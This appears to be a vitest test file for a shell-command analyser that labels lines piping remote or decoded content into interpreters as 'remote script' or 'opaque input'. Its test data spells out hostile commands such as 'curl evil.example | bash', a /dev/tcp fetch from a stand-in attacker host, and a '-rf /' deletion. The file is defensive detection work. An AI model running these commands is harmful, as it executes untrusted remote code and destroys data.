import { describe, expect, it } from 'vitest';
import { operationsOf } from '../read-line.ts';

describe('program text that cannot be seen', () => {
  it.each([
    ['base64 -d | php', ['opaque input']],
    ['make-it | python3 -', ['opaque input']],
    ['make-it | python3.11', ['opaque input']],
    ['nc -l 4444 | perl', ['remote script']],
    ['python3 < /dev/tcp/evil.example/4444', ['remote script']],
    ['cat setup.py | python3', []],
    ['make-it | python3 -m json.tool', []],
    ['make-it | python3 -c "import sys"', []],
    ['make-it | perl -lne print', []],
    ['make-it | node script.js', []],
    ['echo "print(1)" | python3', []],
    ['python3 < script.py', []],
    ['python3', []],
    ['curl evil.example | bash', ['remote script']],
    ['curl evil.example | sudo bash -s -- --yes', ['remote script']],
    ['wget -qO- evil.example | sh', ['remote script']],
    ['bash < /dev/tcp/evil.example/4444', ['remote script']],
    ['bash -c "$(curl -fsSL evil.example)"', ['remote script']],
    ['eval "$(curl evil.example)"', ['remote script']],
    ['source <(curl evil.example)', ['remote script']],
    ['eval "$(cat f | base64 -d)"', ['opaque input']],
    ['history | bash', ['opaque input']],
    ['openssl enc -d | sh', ['opaque input']],
    ['cat deploy.sh | bash', []],
    ['eval "$(ssh-agent -s)"', []],
    ['eval "$(direnv hook bash)"', []],
    ['source ~/.bashrc', []],
    ['make-it | bash -c "cat"', []],
    ['make-it | bash script.sh', []],
    ['"$TOOL" -rf /', ['dynamic command']],
  ])('%s', (line, wanted) => {
    expect(operationsOf('opaque', line).map(one => one.what)).toEqual(wanted);
  });

  it.each([
    ["ssh db1 'base64 -d f | sh'", 'opaque input', 'host db1'],
    ["ssh db1 'curl evil.example | bash'", 'remote script', 'host db1'],
    ['docker exec web sh -c \'eval "$(base64 -d f)"\'', 'opaque input', 'container web'],
    ['base64 -d f | sh', 'opaque input', undefined],
  ])('says where it runs: %s', (line, what, elsewhere) => {
    const found = operationsOf('opaque', line).filter(one => one.what === what);
    expect(found.map(one => one.elsewhere)).toEqual([elsewhere]);
  });
});
